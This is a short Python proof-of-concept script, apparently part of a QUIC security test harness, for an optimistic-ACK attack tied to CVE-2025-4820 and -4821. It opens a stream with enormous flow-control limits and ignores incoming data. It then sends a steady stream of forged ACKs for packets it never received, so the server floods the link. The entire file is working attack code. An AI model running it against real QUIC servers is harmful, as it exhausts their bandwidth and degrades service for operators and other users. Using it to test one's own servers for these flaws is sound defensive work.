"""Asks for a stream without end, reads nothing of it, and acknowledges what may have been sent (`ahead` 0), or what cannot have been
(CVE-2025-4820, -4821): a sender that believes it fills the wire with what nobody gets."""

import time

import frames
from end import OPEN
from story import TOLD, hear, open_carrier, tell

ACKS_PER_SECOND = 200
STREAM = 4
LARGE = 1 << 40

link, carrier = open_carrier(service="source")
carrier.send_frames(frames.stream(STREAM, 0, OPEN) + frames.max_data(LARGE) + frames.max_stream_data(STREAM, LARGE))
carrier.is_deaf = True
before = carrier.packets_received
deadline = time.monotonic() + TOLD["seconds"]
first = carrier.quic._spaces[max(carrier.quic._spaces, key=lambda epoch: epoch.value)].expected_packet_number
while time.monotonic() < deadline:
    link.turn(1 / ACKS_PER_SECOND)
    largest = first + carrier.packets_received - before + TOLD["ahead"]
    carrier.send_frames(frames.ack(largest, largest))
flooded = carrier.bytes_received
hear(link, carrier)
tell(link, carrier, received=flooded)
